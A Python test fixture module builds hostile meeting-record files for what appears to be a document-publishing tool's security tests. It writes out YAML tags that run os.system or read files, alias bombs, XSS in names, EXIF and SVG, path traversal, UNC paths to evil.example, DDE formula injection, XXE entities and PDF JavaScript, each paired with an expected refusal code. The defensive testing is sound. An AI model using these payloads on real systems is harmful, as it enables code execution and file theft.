"""Files of a record that want to be more than a record: tags and paths in its head, names, photos, documents.

`OUTSIDE` stands for a file beside the records, as in words. A `Path` is a link to where it leads.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

from PIL import Image

from tests.browser.payloads.words import OUTSIDE
from tests.documents import pdf
from tests.documents.office import CLEAN, paper, repacked, replaced, saved
from tests.media import planted

SCRIPT = "<script>ran()</script><img src=x onerror=ran()>"
_DRAWING = f'<svg xmlns="http://www.w3.org/2000/svg" onload="ran()">{SCRIPT}</svg>'
_ENTITY = f'<!DOCTYPE x [<!ENTITY y SYSTEM "file://{OUTSIDE}">]>'
_BOMB = "a: &a [x]\nb: &b [*a, *a, *a, *a]\nc: &c [*b, *b, *b, *b]\n"


@dataclass(frozen=True)
class Filed:
    """A meeting made of files: its hazard, and the code with which it is refused, "" if it is published."""

    row: str
    code: str
    files: Mapping[str, str | bytes | Path]


def _meeting(head: str = "", body: str = "Minutes.") -> str:
    return f"---\ntitle: A proposal\ndate: 2025-02-02\n{head}---\n{body}\n"


def _head(row: str, code: str, head: str, **files: str) -> Filed:
    return Filed(row, code, {"meeting.md": _meeting(head), **files})


def _photo(row: str, code: str, data: str | bytes | Path, name: str = "wall.jpg") -> Filed:
    head = f"photos:\n  - {{photo: {name}, alt: A wall}}\n"
    return Filed(row, code, {"meeting.md": _meeting(head), f"photos/{name}": data})


def _paper(row: str, code: str, data: str | bytes | Path, name: str, more: str = "") -> Filed:
    head = f"files:\n  - {{file: {name}, title: A paper{more}}}\n"
    return Filed(row, code, {"meeting.md": _meeting(head), f"files/{name}": data})


def _picture() -> Image.Image:
    return Image.new("RGB", (48, 32), (120, 60, 30))


def _with_archive() -> bytes:
    out = BytesIO()
    with ZipFile(out, "w") as archive:
        archive.writestr("x.html", SCRIPT)
    return planted.jpeg(_picture()) + out.getvalue()


def _exif() -> bytes:
    made = Image.Exif()
    made[0x010E] = SCRIPT
    return planted.jpeg(_picture(), exif=made)


def _word(change: Callable[[bytes], bytes]) -> bytes:
    return repacked(CLEAN["docx"], lambda name, part: change(part) if name == "word/document.xml" else part)


def _declared(part: bytes) -> bytes:
    first, end, rest = part.partition(b"?>")
    return first + end + _ENTITY.encode() + rest


def _said() -> bytes:
    made = paper()
    made.add_heading(SCRIPT, 1)
    made.add_paragraph(f"{SCRIPT} {{{{ 1009*1013 }}}} [x](javascript:ran())")
    made.add_table(1, 1).cell(0, 0).text = "=cmd|' /C calc'!A0 </td><script>ran()</script>"
    return saved(made)


def _linked() -> bytes:
    elsewhere = (
        b'<Relationship Id="rIdX" TargetMode="External" Target="file://evil.example/share/x.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    return replaced(CLEAN["docx"], "word/_rels/document.xml.rels", b"</Relationships>", elsewhere)


def _runs() -> bytes:
    drawn = f"BT /F1 12 Tf 72 700 Td ({SCRIPT.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) Tj ET\n"
    return pdf.made(drawn, "", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "", b"<< >>")


FILES: dict[str, Filed] = {
    "a tag that runs a program": _head(
        "A4", "GT113", f'reason: !!python/object/apply:os.system ["touch {OUTSIDE}.ran"]\n'
    ),
    "a tag that reads a file": _head("A4", "GT113", f"reason: !include {OUTSIDE}\n"),
    "a tag that reads the surroundings": _head("A4", "GT113", "reason: !ENV HOME\n"),
    "names that swell": _head("A5", "GT114", _BOMB),
    "a value that contains itself": _head("A6", "GT114", "objectives: &a [*a]\n"),
    "signs that steer": Filed("A15", "GT102", {"meeting.md": _meeting(body="x\0<script>ran()</script>")}),
    "an id with markup": _head("C3", "GT203", 'id: "x\\" onclick=ran()"\n'),
    "an id of the page": _head("D15", "", "id: location\nactions:\n  - {id: constructor, what: Be the first}\n"),
    "a template of another page": _head("D6", "GT210", "template: sitemap.xml\n"),
    "a photo above": _head("C2", "GT213", "photos:\n  - {photo: ../../outside.txt, alt: x}\n"),
    "a photo at an absolute place": _head("C2", "GT213", f"photos:\n  - {{photo: {OUTSIDE}, alt: x}}\n"),
    "a paper behind backslashes": _head("C2", "GT213", "files:\n  - {file: '..\\..\\outside.txt', title: x}\n"),
    "a paper by its address": _head("C2", "GT213", f"files:\n  - {{file: 'file://{OUTSIDE}', title: x}}\n"),
    "a paper of another computer": _head("C2", "GT213", "files:\n  - {file: '\\\\evil.example\\x.txt', title: x}\n"),
    "a photo that is a link": _photo("C1", "GT010", Path(OUTSIDE)),
    "a paper that is a link": _paper("C1", "GT010", Path(OUTSIDE), "x.txt"),
    "a record that is a link": Filed("C1", "GT010", {"meeting.md": _meeting(), "flip-charts/x.md": Path(OUTSIDE)}),
    "a name with markup": Filed("C3", "GT013", {"meeting.md": _meeting(), "files/<img src=x onerror=ran()>.txt": "x"}),
    "a name with quotes": Filed("C3", "GT013", {"meeting.md": _meeting(), 'files/x" onclick="ran().txt': "x"}),
    "a name that turns": Filed("C3", "GT013", {"meeting.md": _meeting(), "files/a\u202etxt.exe": "x"}),
    "a drawing called a photo": _photo("E6", "GT702", _DRAWING),
    "a page called a photo": _photo("E6", "GT702", f"<!doctype html>{SCRIPT}"),
    "a drawing among the photos": _photo("D5", "GT702", _DRAWING, "wall.svg"),
    "a photo with an archive": _photo("E6", "", _with_archive()),
    "a photo described by a script": _photo("E1", "", _exif()),
    "a photo with words of a script": _photo(
        "E1", "", planted.png(_picture(), planted.chunk(b"tEXt", b"Comment\0" + SCRIPT.encode())), "wall.png"
    ),
    "a drawing among the papers": _paper("D5", "", _DRAWING, "x.svg"),
    "a drawing given away": _paper("D5", "GT714", _DRAWING, "x.svg", ", release: original"),
    "a page among the papers": _paper("D1", "", SCRIPT, "x.html"),
    "words of a paper": _paper("D1", "", f"{SCRIPT}\n{{{{ 1009*1013 }}}}\n", "x.txt"),
    "words of a paper, given away": _paper("D1", "", SCRIPT, "x.txt", ", release: original"),
    "formulas of a table": _paper("D10", "", f"=cmd|' /C calc'!A0,{SCRIPT}\n+1+1,-1\n", "x.csv"),
    "words of a paper from an office": _paper("D1", "", _said(), "x.docx"),
    "an office file with an entity": _paper("F2", "GT711", _word(_declared), "x.docx"),
    "an office file with a template": _paper("F6", "", _linked(), "x.docx"),
    "a page of print that runs": _paper("F1", "", _runs(), "x.pdf"),
}
"""By name: each a meeting of its own."""
